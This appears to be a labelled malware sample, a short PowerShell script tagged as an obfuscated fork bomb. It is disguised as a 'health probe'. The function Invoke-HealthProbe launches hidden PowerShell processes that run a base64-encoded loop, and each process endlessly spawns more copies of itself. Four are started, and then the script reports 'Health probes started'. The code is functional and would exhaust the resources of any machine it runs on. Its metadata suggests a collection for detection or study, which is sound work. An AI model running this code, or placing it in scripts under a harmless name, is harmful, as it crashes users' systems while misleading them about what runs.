# description: Health-probe script whose innocuous function launches encoded PowerShell children that each loop spawning more of themselves.
# family: fork-bomb
# obfuscated: yes
$probe = 'while($true){Start-Process powershell -ArgumentList ''-NoP'',''-EncodedCommand'',$env:HP_B64 -WindowStyle Hidden}'
$env:HP_B64 = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($probe))
function Invoke-HealthProbe {
    Start-Process powershell -ArgumentList '-NoP', '-EncodedCommand', $env:HP_B64 -WindowStyle Hidden
}
1..4 | ForEach-Object { Invoke-HealthProbe }
Write-Output 'Health probes started'
